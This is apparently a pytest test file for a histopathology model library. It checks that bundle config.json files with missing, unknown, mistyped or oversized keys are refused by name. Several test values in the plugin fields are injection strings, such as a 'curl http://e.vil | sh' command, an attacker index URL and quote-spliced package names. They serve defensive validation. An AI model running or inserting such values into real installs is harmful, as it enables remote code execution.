from __future__ import annotations

import json
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest

from zoo.bundle.bundle_config import BundleConfig
from zoo.bundle.bundle_files import CONFIG, read_config
from zoo.bundle.provenance import InitialWeights
from zoo.config.fields import settings_of
from zoo.config.recipe import Recipe
from zoo.data.split.leakage import Leak
from zoo.errors import BundleError

DOCUMENT: dict[str, Any] = {
    "format": 1,
    "library": "histozoo",
    "library_version": "0.1.0",
    "entry": "tiny",
    "architecture": "tiny",
    "plugin": {"name": "tiny", "distribution": "histozoo", "version": "0.1.0"},
    "options": {"width": 8},
    "head": "softmax",
    "classes": ["benign", "malignant"],
    "preprocessing": {
        "height": 32,
        "width": 48,
        "mean": [0.5, 0.5, 0.5],
        "std": [0.2, 0.2, 0.2],
        "interpolation": "bilinear",
        "fit": "squash",
        "crop_pct": 1.0,
    },
    "training": {
        "recipe": {
            "name": "modern",
            "summary": "Ours.",
            "paper": None,
            "readings": [],
            "epochs": 50,
            "batch_size": 32,
            "height": None,
            "width": None,
            "split": "auto",
            "fractions": [0.6, 0.1, 0.3],
            "folds": None,
            "fold": 0,
            "identical": "together",
            "select": "balanced_accuracy",
            "patience": None,
            "tune": "all",
            "batch_norm": "train",
            "averaging": 0.0,
            "optimizer": "adamw",
            "lr": 0.001,
            "lr_from_scratch": None,
            "weight_decay": 0.05,
            "schedule": "cosine",
            "warmup": 0.0,
            "early_rate": 1.0,
            "loss": "cross_entropy",
            "label_smoothing": 0.0,
            "class_weights": "none",
            "sampling": "natural",
            "augment": ["symmetries", "crop"],
            "mixing": "none",
            "threshold": 0.5,
        },
        "data": {
            "source": "breakhis",
            "name": "BreakHis 40x",
            "synthetic": False,
            "fingerprint": "a1b2c3d4",
            "options": {"magnification": 40},
            "images": {"benign": 800, "malignant": 1200},
            "unreadable": 0,
        },
        "split": {
            "unit": "patient",
            "seed": 7,
            "fractions": [0.6, 0.1, 0.3],
            "folds": None,
            "fold": 0,
            "file": False,
            "images": {"train": 1200, "val": 200, "test": 600},
            "patients": {"train": 49, "val": 8, "test": 25},
            "identical": None,
            "leak": None,
        },
        "seed": 3,
        "init": {
            "asked": "auto",
            "used": "scratch",
            "repo": None,
            "revision": None,
            "license": None,
            "note": "pretrained weights could not be downloaded (the Hub cannot be reached)",
            "fresh": None,
        },
        "parameters": 123456,
        "device": "cpu, float32",
        "versions": {"histozoo": "0.1.0", "torch": "2.10", "python": "3.11"},
        "epochs_run": 5,
        "best_epoch": 4,
        "seconds": 10.5,
        "seconds_to_best": 8.25,
        "images_per_second": 571.5,
        "peak_memory_bytes": 1_000_000,
        "energy_joules": None,
    },
    "num_classes": 2,
    "label_names": ["benign", "malignant"],
    "weights": {"file": "model.safetensors", "sha256": "00"},
    "golden": {"file": "golden.safetensors", "sha256": "00"},
    "seen": {"file": "seen.json", "sha256": "00"},
}
"""config.json, key by key: bundles that were published have these keys."""


def changed(*path: str, **changes: Any) -> dict[str, Any]:
    """The document with other keys in one of its mappings."""
    document: dict[str, Any] = json.loads(json.dumps(DOCUMENT))
    part = document
    for name in path:
        part = part[name]
    part.update(changes)
    return document


def without(*path: str) -> dict[str, Any]:
    """The document without one key."""
    document: dict[str, Any] = json.loads(json.dumps(DOCUMENT))
    part = document
    for name in path[:-1]:
        part = part[name]
    del part[path[-1]]
    return document


def keys(document: dict[str, Any], *path: str) -> list[tuple[str, ...]]:
    """The path of every key that a fixed document has; names that data decide are left out."""
    found: list[tuple[str, ...]] = []
    for name, value in document.items():
        if (*path, name) not in (("format",), ("library",), ("weights",), ("golden",), ("seen",)):
            found.append((*path, name))
            if isinstance(value, dict) and name != "options" and (*path, name) != ("training", "data", "images"):
                found += keys(value, *path, name)
    return found


def test_config_json_of_a_trained_bundle_has_the_documented_keys_in_order(bundle: Any) -> None:
    of_this_one = {key: DOCUMENT[key] for key in ("weights", "golden", "seen")}
    document = {**read_config(bundle()), "library_version": "0.1.0", **of_this_one}
    assert json.dumps(document, indent=2) == json.dumps(DOCUMENT, indent=2)


def test_config_json_with_the_documented_keys_is_read(config: BundleConfig) -> None:
    assert BundleConfig.from_json(DOCUMENT, where="here") == config


def test_the_provenance_of_a_training_is_read_back_equal_from_config_json(config: BundleConfig) -> None:
    assert config.training is not None
    pretrained = InitialWeights(asked="imagenet", used="ImageNet-1k", repo="a/b", revision="1", license="mit")
    split = replace(
        config.training.split, folds=5, leak=Leak(patients=1, test_patients=2, identical=0, share=0.5), patients=None
    )
    full = replace(config, training=replace(config.training, init=pretrained, split=split))
    document = json.loads(json.dumps(full.to_json()))
    assert BundleConfig.from_json({**document, "library_version": "0.1.0"}, where="here") == full


def test_the_training_of_fresh_weights_is_written_as_an_empty_mapping_and_read_back(config: BundleConfig) -> None:
    fresh = replace(config, training=None)
    assert fresh.to_json()["training"] == {}
    assert BundleConfig.from_json(changed(training={}), where="here") == fresh


def test_the_training_before_a_head_was_replaced_is_in_config_json_and_read_back(config: BundleConfig) -> None:
    fresh_head = replace(config, training=None, earlier_training=config.training)
    document = json.loads(json.dumps(fresh_head.to_json()))
    assert document["training"] == {}
    assert document["earlier_training"] == DOCUMENT["training"]
    assert BundleConfig.from_json({**document, "library_version": "0.1.0"}, where="here") == fresh_head


def test_a_config_json_without_an_earlier_training_has_no_key_for_it_and_is_read(config: BundleConfig) -> None:
    assert "earlier_training" not in config.to_json()
    assert "earlier_training" not in replace(config, training=None).to_json()
    assert BundleConfig.from_json(changed(training={}), where="here").last_training is None


SETTINGS = [path for path in keys(DOCUMENT) if path[:2] == ("training", "recipe") and path[-1] in settings_of(Recipe)]

NOT_NEEDED = [("num_classes",), ("label_names",), ("preprocessing", "crop_pct")]
"""Keys for timm, and one that documents of an older version lack."""


@pytest.mark.parametrize("path", [p for p in keys(DOCUMENT) if p not in (*SETTINGS, *NOT_NEEDED)], ids=".".join)
def test_a_missing_key_is_refused_by_its_name(path: tuple[str, ...]) -> None:
    with pytest.raises(BundleError) as caught:
        BundleConfig.from_json(without(*path), where="here")
    assert str(caught.value).startswith(f"here: {CONFIG} cannot be read: {'.'.join(path)} is missing")


@pytest.mark.parametrize("path", SETTINGS, ids=".".join)
def test_a_recipe_that_was_written_before_there_was_a_setting_has_its_default(path: tuple[str, ...]) -> None:
    training = BundleConfig.from_json(without(*path), where="here").training
    assert training is not None
    assert getattr(training.recipe, path[-1]) == settings_of(Recipe)[path[-1]].default


@pytest.mark.parametrize("path", [path for path in keys(DOCUMENT) if path[:-1]], ids=".".join)
def test_a_value_of_another_type_is_refused_by_its_name(path: tuple[str, ...]) -> None:
    with pytest.raises(BundleError) as caught:
        BundleConfig.from_json(changed(*path[:-1], **{path[-1]: [{"a": 1}]}), where="here")
    assert str(caught.value).startswith(f"here: {CONFIG} cannot be read: {'.'.join(path)}")


@pytest.mark.parametrize(
    ("document", "said"),
    [
        (changed(auto_map={}), "auto_map is unknown"),
        (changed("plugin", url="x"), "plugin.url is unknown"),
        (changed("preprocessing", color=1), "preprocessing.color is unknown"),
        (changed("training", outcome={}), "training.outcome is unknown"),
        (changed("training", "recipe", momentum=0.9), "training.recipe.momentum is unknown"),
        (changed("training", "split", unit="slide"), "training.split.unit must be one of patient, image, fixed"),
        (changed("training", "split", leak={"patients": 1}), "training.split.leak.test_patients"),
        (changed("training", "data", images={"a": "many"}), "training.data.images.a must be a whole number"),
        (changed("training", epochs_run=True), "training.epochs_run must be a whole number, not True"),
        (changed("training", seconds=float("nan")), "training.seconds must be a number, not nan"),
        (changed(training=[]), "training must be a mapping of names to values"),
        (changed(classes=["a", "a"]), "two classes have the same name"),
        (changed(classes=["a", "b\nmalignant   1.000"]), "the name of a class must be one line of at most 255"),
        (changed(classes=["a", "\x1b[31mb"]), "the name of a class must be one line of at most 255"),
        (changed(classes=["a", "x" * 256]), "the name of a class must be one line of at most 255"),
        (changed(classes=["a", ""]), "the name of a class must be one line of at most 255"),
        (changed(entry="../x"), "'../x' cannot be the name of an entry"),
        (changed(entry="a\nb"), "cannot be the name of an entry"),
        (changed("plugin", name="--help"), "'--help' cannot be the name of a plugin"),
        (changed("plugin", distribution="x' 'evil-pkg"), "are not the name and version of a package"),
        (changed("plugin", distribution="x; curl http://e.vil | sh"), "are not the name and version of a package"),
        (changed("plugin", distribution="--index-url=http://e.vil"), "are not the name and version of a package"),
        (changed("plugin", distribution="git+https://e.vil/x"), "are not the name and version of a package"),
        (changed("plugin", version="1' 'evil"), "are not the name and version of a package"),
        (changed("plugin", version="1\n2"), "are not the name and version of a package"),
        (changed("training", seed=10**30), "training.seed must be a whole number from -2^63 to 2^63"),
        (changed("training", "data", images={"a": 10**400}), "training.data.images.a must be a whole number from"),
        (changed("options", width=2**64), "options.width must be a whole number from"),
        (changed("preprocessing", height=3000, width=3000), "images of 3000x3000 are too large"),
        (changed("preprocessing", height=0), "preprocessing.height must be at least 1 and at most 65,536, not 0"),
        (changed("preprocessing", width=10**9), "preprocessing.width must be at least 1 and at most 65,536"),
        (changed("preprocessing", std=[0.2, 0, 0.2]), "preprocessing.std must be at least 1e-06"),
        (changed("preprocessing", mean=[1e308, 0, 0]), "preprocessing.mean must be at least -1"),
    ],
)
def test_a_renamed_extra_or_wrong_key_is_refused_by_its_name(document: dict[str, Any], said: str) -> None:
    with pytest.raises(BundleError) as caught:
        BundleConfig.from_json(document, where="here")
    assert said in str(caught.value)


def test_a_config_of_another_version_says_which_version_wrote_it() -> None:
    with pytest.raises(BundleError, match=r"histozoo '9\.0' wrote it"):
        BundleConfig.from_json({**without("entry"), "library_version": "9.0"}, where="here")
    with pytest.raises(BundleError) as caught:
        BundleConfig.from_json(without("entry"), where="here")
    assert "wrote it" not in str(caught.value)


def test_a_bundle_that_is_written_again_states_the_version_that_writes_it(config: BundleConfig) -> None:
    assert "library_version" not in replace(config, library_version="0.0.1").to_json()


@pytest.mark.parametrize(
    "text",
    ["[" * 100_000, '{"library": ' + "9" * 5000 + "}", '{"entry": "\\ud800"}', "[]" + " " * 5_000_000, "\x00"],
    ids=["deep", "digits", "surrogate", "large", "binary"],
)
def test_a_config_json_that_is_no_object_is_a_bundle_error(tmp_path: Path, text: str) -> None:
    (tmp_path / CONFIG).write_text(text, encoding="utf-8")
    with pytest.raises(BundleError, match=f"{CONFIG} cannot be read"):
        read_config(tmp_path)


def test_an_error_quotes_only_the_beginning_of_a_long_value_in_a_config(tmp_path: Path) -> None:
    for change in ({"format": "x" * 100_000}, {"library_version": ["x"] * 10_000}, {"architecture": ["x"] * 10_000}):
        (tmp_path / CONFIG).write_text(json.dumps(changed(**change)), encoding="utf-8")
        with pytest.raises(BundleError) as caught:
            BundleConfig.read(tmp_path)
        assert len(str(caught.value)) < 1000
